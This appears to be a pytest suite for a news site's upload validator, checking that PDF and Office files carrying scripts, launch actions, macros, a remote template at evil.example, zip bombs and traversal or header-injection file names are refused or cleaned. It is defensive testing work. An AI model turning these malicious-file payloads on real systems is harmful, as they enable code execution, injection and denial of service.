"""Files from outside: what is taken, what is refused and why, and what they are called."""

import io
import zipfile
import zlib
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfReader, PdfWriter

from news import attachments, pdf, text
from news.attachments import AttachmentRefused, clean_name, kind_of
from tests.factories import (
    odt_parts,
    office_parts,
    pdf_bytes,
    picture_bytes,
    zip_bytes,
)


def refusal(content: bytes) -> str:
    with pytest.raises(AttachmentRefused) as refused:
        kind_of(content)
    return str(refused.value)


# --- What is taken --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "content"),
    [
        ("pdf", pdf_bytes()),
        ("docx", zip_bytes(office_parts("docx"))),
        ("xlsx", zip_bytes(office_parts("xlsx"))),
        ("odt", zip_bytes(odt_parts())),
        ("docx", zip_bytes(office_parts(word__media__image1="x" * 50), zipfile.ZIP_STORED)),
    ],
)
def test_each_kind_is_known_by_its_content(kind: str, content: bytes) -> None:
    assert kind_of(content) == kind


def test_a_link_and_a_signature_in_a_pdf_are_no_harm() -> None:
    link = "<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://a.example/)>>>>"
    assert kind_of(pdf_bytes(extra=link)) == "pdf"
    assert kind_of(pdf_bytes(extra="<</Type/Sig/Filter/Adobe.PPKLite/Contents<00>>>")) == "pdf"


def test_a_table_that_unfolds_thirtyfold_is_taken() -> None:
    rows = "".join(f"<row r='{number}'><c>{number * 7919}</c></row>" for number in range(20_000))
    content = zip_bytes(office_parts("xlsx", xl__worksheets__sheet1=rows))
    assert kind_of(content) == "xlsx"


# --- What is refused ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        b"MZ\x90\x00" + b"\0" * 200,
        b"\x7fELF" + b"\0" * 200,
        b"#!/bin/sh\necho\n",
        b"<!doctype html><script>alert(1)</script>",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"Just text",
        b"\n%PDF-1.4\n",
        b"Rar!\x1a\x07\x00",
        b"7z\xbc\xaf\x27\x1c",
        b"\xff\xfe\x00",
        picture_bytes(8, 8),
    ],
)
def test_whatever_else_is_refused(content: bytes) -> None:
    assert "Cổng nhận PDF, DOCX, XLSX và ODT." in refusal(content)


def test_an_empty_file_is_refused() -> None:
    assert refusal(b"") == "Tệp này rỗng."


def test_an_archive_is_refused_with_a_way_out() -> None:
    assert "giải nén" in refusal(zip_bytes({"thong-bao.pdf": pdf_bytes()}))


def test_old_word_files_are_refused_with_a_sentence_that_says_how_to_save_anew() -> None:
    said = refusal(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
    assert "Lưu thành" in said
    assert "DOCX" in said


@pytest.mark.parametrize("size", [0, 1])
def test_a_file_is_taken_up_to_the_cap_and_not_beyond(size: int) -> None:
    sent = SimpleUploadedFile("a.pdf", b"x")
    sent.size = attachments.MAX_BYTES + size
    with pytest.raises(AttachmentRefused) as refused:
        attachments.check(sent)
    assert ("lớn hơn 20 MB" in str(refused.value)) == bool(size)


# --- PDF ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("catalog", "extra", "words"),
    [
        ("/OpenAction 5 0 R", "<</S/JavaScript/JS(app.alert(1))>>", "mã chạy được"),
        ("/OpenAction 5 0 R", "<</S/J#61vaScript/J#53(app.alert(1))>>", "mã chạy được"),
        ("/OpenAction<</S/Launch/F(cmd.exe)>>", "", "mã chạy được"),
        ("/AcroForm<</XFA 5 0 R>>", "<</Length 0>>\nstream\n\nendstream", "mã chạy được"),
        # Reached from nowhere but the table of contents.
        ("", "<</S/JavaScript/JS(x)>>", "mã chạy được"),
        ("", "<</A[[[<</B<</S/Launch>>>>]]]>>", "mã chạy được"),
        ("/Names<</EmbeddedFiles<</Names[]>>>>", "", "mang theo tệp khác"),
        ("", "<</Type/EmbeddedFile/Length 1>>\nstream\nx\nendstream", "mang theo tệp khác"),
    ],
)
def test_a_pdf_that_does_something_or_carries_something_is_refused(
    catalog: str, extra: str, words: str
) -> None:
    assert words in refusal(pdf_bytes(catalog=catalog, extra=extra))


def packed_pdf(hidden: bytes) -> bytes:
    """A PDF whose object 5 lies in a packed stream of objects, listed in a packed table of contents."""
    stream = zlib.compress(b"5 0 " + hidden, 9)
    content = pdf_bytes()
    content = content[: content.index(b"xref")]
    places = [content.index(b"%d 0 obj" % number) for number in range(1, 5)]
    places.append(len(content))
    content += (
        b"6 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream\nendobj\n"
        % (len(stream), stream)
    )
    rows = [b"\0" * 6, *(b"\1" + place.to_bytes(4, "big") + b"\0" for place in places[:4])]
    rows += [b"\2\0\0\0\6\0", b"\1" + places[4].to_bytes(4, "big") + b"\0"]
    return content + (
        b"7 0 obj\n<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length 42>>\nstream\n%s\nendstream\nendobj\n"
        b"startxref\n%d\n%%%%EOF\n" % (b"".join(rows), len(content))
    )


def test_what_lies_in_a_packed_stream_of_objects_is_found() -> None:
    assert kind_of(packed_pdf(b"<</Title(Thong bao)>>")) == "pdf"
    assert "mã chạy được" in refusal(packed_pdf(b"<</S/JavaScript/JS(app.alert(1))>>"))


def test_a_locked_pdf_is_refused_also_when_its_password_is_empty() -> None:
    for password in ("secret", ""):
        writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))
        writer.encrypt(password, owner_password="owner", algorithm="RC4-128")
        target = io.BytesIO()
        writer.write(target)
        assert "khóa" in refusal(target.getvalue())


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.4\n",
        b"%PDF-1.4\nrubbish\n%%EOF\n",
        pdf_bytes()[:300],
        pdf_bytes().replace(b"/Type/Pages", b"/Type/Other").replace(b"/Kids[3 0 R]", b""),
        b"%PDF-1.4\n" + b"[" * 100_000 + b"\n%%EOF\n",
    ],
)
def test_a_broken_pdf_is_refused(content: bytes) -> None:
    assert "bị hỏng" in refusal(content)


def test_a_pdf_that_is_also_an_archive_or_a_page_is_refused() -> None:
    both = pdf_bytes() + zip_bytes({"a": "b"})
    page = pdf_bytes().replace(b"%PDF-1.4\n", b"%PDF-1.4\n%<script>alert(1)</script>\n")
    hidden = pdf_bytes() + zip_bytes({"a": "b"}) + b"%%EOF"
    for content in (both + b"\n%%EOF\n", page, hidden):
        assert "vừa là PDF vừa là" in refusal(content)


def test_a_pdf_whose_parts_unfold_without_end_is_refused() -> None:
    bomb = packed_pdf(b"<<>>" + b" " * 100_000_000)
    assert len(bomb) < 200_000
    assert "bị hỏng" in refusal(bomb)


def test_a_pdf_that_keeps_the_parser_busy_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    class Killed:
        stdout = b""

    monkeypatch.setattr(pdf.subprocess, "run", lambda *args, **options: Killed())
    assert "quá phức tạp" in refusal(pdf_bytes())

    waited = []

    def late(*args: Any, timeout: int, **options: Any) -> None:
        waited.append(timeout)
        raise pdf.subprocess.TimeoutExpired("python", timeout, output=b"page 1")

    monkeypatch.setattr(pdf.subprocess, "run", late)
    assert "quá phức tạp" in refusal(pdf_bytes())
    assert pdf.words_of(pdf_bytes()) == "page 1"
    assert waited == [pdf.SECONDS + 5, pdf.READING_SECONDS + 5]


# --- Office documents -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "parts",
    [
        office_parts(word__vbaProject=b"x") | {"word/vbaProject.bin": b"x"},
        office_parts("xlsx") | {"XL/VBAPROJECT.BIN": b"x"},
        office_parts("xlsx") | {"xl/macrosheets/sheet1.xml": "<x/>"},
        office_parts() | {"word/activeX/activeX1.xml": "<x/>"},
        office_parts() | {"word/embeddings/oleObject1.bin": b"x"},
        {
            name: str(part).replace(
                "vnd.openxmlformats-officedocument.wordprocessingml.document.main",
                "vnd.ms-word.document.macroEnabled.main",
            )
            for name, part in office_parts().items()
        },
        office_parts()
        | {
            "word/_rels/settings.xml.rels": '<Relationships><Relationship TargetMode="External" '
            'Type="http://x/relationships/attachedTemplate" Target="https://evil.example/a.dotm"/></Relationships>'
        },
        odt_parts() | {"Basic/Standard/Module1.xml": "<x/>"},
        odt_parts() | {"Scripts/python/a.py": "x"},
    ],
)
def test_macros_and_objects_are_refused(parts: dict[str, bytes | str]) -> None:
    assert "macro" in refusal(zip_bytes(parts))


def test_a_template_on_the_author_s_own_disk_is_no_harm() -> None:
    link = (
        '<Relationships><Relationship TargetMode="External" Type="http://x/relationships/attachedTemplate" '
        'Target="file:///C:\\Users\\an\\Normal.dotm"/></Relationships>'
    )
    content = zip_bytes(office_parts() | {"word/_rels/settings.xml.rels": link})
    assert kind_of(content) == "docx"


@pytest.mark.parametrize(
    "parts",
    [
        {"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<x/>"},
        {"mimetype": "application/epub+zip"},
        {
            "[Content_Types].xml": '<Types><Override PartName="/ppt/presentation.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>',
            "ppt/presentation.xml": "<x/>",
        },
        # Says that it is a DOCX, and has no document.
        {"[Content_Types].xml": office_parts()["[Content_Types].xml"]},
    ],
)
def test_other_office_documents_are_refused_with_a_way_out(parts: dict[str, bytes | str]) -> None:
    assert "Hãy lưu thành PDF" in refusal(zip_bytes(parts))


def test_entities_in_the_table_of_types_are_not_unfolded() -> None:
    types = '<!DOCTYPE x [<!ENTITY a "aaaa">]>' + str(office_parts()["[Content_Types].xml"])
    assert "bị hỏng" in refusal(zip_bytes(office_parts() | {"[Content_Types].xml": types}))


def test_an_archive_that_unfolds_without_end_is_refused() -> None:
    bomb = zip_bytes(office_parts(word__big=b"\0" * (attachments.RATIO_MATTERS_FROM + 1)))
    assert len(bomb) < 50_000
    assert "giải nén ra quá lớn" in refusal(bomb)


def test_an_archive_of_very_many_parts_is_refused_before_it_is_opened(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(attachments, "MAX_ENTRIES", 20)
    content = zip_bytes(office_parts() | {f"word/{number}": "" for number in range(30)})
    monkeypatch.setattr(zipfile, "ZipFile", None)
    assert "giải nén ra quá lớn" in refusal(content)


def test_a_part_that_says_less_than_it_holds_is_refused() -> None:
    content = bytearray(zip_bytes(office_parts(word__big=b"a" * 5000)))
    # Both heads of the part claim 16 bytes.
    claimed = (5000).to_bytes(4, "little")
    assert content.count(claimed) == 2
    assert "bị hỏng" in refusal(bytes(content.replace(claimed, (16).to_bytes(4, "little"))))


def test_a_damaged_or_cut_document_is_refused() -> None:
    whole = zip_bytes(office_parts(word__big="Nội dung " * 500))
    middle = len(whole) // 2
    assert "bị hỏng" in refusal(whole[:middle])
    assert "bị hỏng" in refusal(whole[:60] + b"\xff\xff" + whole[62:])


def test_a_document_with_a_password_is_refused() -> None:
    manifest = "<manifest><encryption-data/></manifest>"
    assert "mật khẩu" in refusal(zip_bytes(odt_parts() | {"META-INF/manifest.xml": manifest}))
    locked = bytearray(zip_bytes(office_parts()))
    for head, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        locked[locked.index(head) + flags] |= 1
    assert "mật khẩu" in refusal(bytes(locked))


@pytest.mark.parametrize(
    "content",
    [
        zip_bytes(office_parts()) + b"tail",
        zip_bytes(office_parts()) + b"MZ" * 40,
        zip_bytes({"a.html": "<html><script>", **office_parts()}, zipfile.ZIP_STORED),
        zip_bytes({"a.pdf": "%PDF-1.4", **office_parts()}, zipfile.ZIP_STORED),
    ],
)
def test_a_document_with_something_strange_beside_it_is_refused(content: bytes) -> None:
    assert "phần lạ" in refusal(content)


# --- Names ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("Thông báo số 12.pdf", "Thông báo số 12.pdf"),
        ("C:\\Users\\an\\Thông báo.PDF", "Thông báo.pdf"),
        ("../../etc/passwd", "passwd.pdf"),
        ("a.pdf\r\nSet-Cookie: x=1", "a.pdf Set-Cookie x=1.pdf"),
        ('a"; filename="b.exe', "a ; filename= b.exe.pdf"),
        ("thông báo\u202efdp.exe", "thông báofdp.exe.pdf"),
        ("a\u200b\ufeff\x00b.pdf", "a b.pdf"),
        ("bảng.docx", "bảng.docx.pdf"),
        ("  .pdf", "tep-dinh-kem.pdf"),
        ("", "tep-dinh-kem.pdf"),
        (".htaccess", "htaccess.pdf"),
        ("Thông báo.pdf", "Thông báo.pdf"),
    ],
)
def test_a_name_is_cleaned(sent: str, kept: str) -> None:
    assert clean_name(sent, "pdf") == kept


def test_a_name_of_three_hundred_letters_is_cut_at_a_word_and_fits_every_file_system() -> None:
    name = clean_name("Nghị quyết " * 27 + ".pdf", "pdf")
    assert len(name.encode()) <= 190
    assert name.endswith(("Nghị.pdf", "quyết.pdf"))
    assert len(clean_name("ệ" * 300, "docx").encode()) <= 190


@pytest.mark.parametrize(
    ("size", "words"),
    [(1, "1 KB"), (348_160, "340 KB"), (1_258_291, "1,2 MB"), (20 * 1024 * 1024, "20 MB")],
)
def test_a_size_is_said_in_words(size: int, words: str) -> None:
    assert text.file_size(size) == words
